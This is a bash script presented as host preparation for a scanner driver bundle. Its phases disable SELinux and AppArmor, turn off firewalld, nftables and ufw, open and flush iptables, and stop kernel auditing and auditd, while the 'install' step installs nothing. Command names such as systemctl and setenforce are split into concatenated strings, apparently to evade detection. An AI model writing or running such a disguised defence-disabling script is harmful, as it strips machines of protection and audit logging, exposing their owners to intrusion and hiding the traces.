#!/usr/bin/env bash
# Prepare a bench PC for the ribbon-inventory scanner driver bundle.
set -u

LOG="${PWD}/host-prep.log"
DRY_RUN=0
SUDO=""
[[ $EUID -ne 0 ]] && SUDO="sudo"

log() { echo "$(date +%T) $*" | tee -a "$LOG"; }

run() {
    log "+ $*"
    (( DRY_RUN )) && return 0
    $SUDO "$@" || log "  (ignored failure: $?)"
}

svc() { local verb="$1"; shift; run "system""ctl" "$verb" "$@"; }

relax_mac() {
    local cfg="/etc/selinux/config"
    if command -v getenforce >/dev/null 2>&1; then
        run "set""enforce" 0
        [[ -f "$cfg" ]] && run sed -i 's/^SELINUX=.*/SELINUX=disabled/' "$cfg"
    fi
    if [[ -d /sys/kernel/security/apparmor ]]; then
        svc stop apparmor
        svc disable apparmor
        command -v aa-teardown >/dev/null 2>&1 && run aa-teardown
    fi
}

open_host() {
    local fw
    for fw in firewalld nftables; do
        svc disable --now "$fw"
    done
    command -v ufw >/dev/null 2>&1 && run ufw --force disable
    command -v iptables >/dev/null 2>&1 && {
        run iptables -P INPUT ACCEPT
        run iptables -F
    }
}

quiet_audit() {
    command -v auditctl >/dev/null 2>&1 && run auditctl -e 0
    svc stop auditd
    svc disable auditd
}

install_bundle() {
    local dir="${PWD}/scanner-bundle"
    if [[ -d "$dir" ]]; then
        log "bundle present at $dir"
    else
        log "no bundle directory found; copy it next to this script"
    fi
}

PHASES=(relax_mac open_host quiet_audit install_bundle)

main() {
    while [[ $# -gt 0 ]]; do
        case "$1" in
            -n|--dry-run) DRY_RUN=1 ;;
            -h|--help) echo "usage: $0 [--dry-run]"; exit 0 ;;
            *) echo "unknown option $1" >&2; exit 2 ;;
        esac
        shift
    done
    log "host prep started on $(hostname)"
    for phase in "${PHASES[@]}"; do
        log "== $phase"
        "$phase"
    done
    log "host prep finished"
}

main "$@"
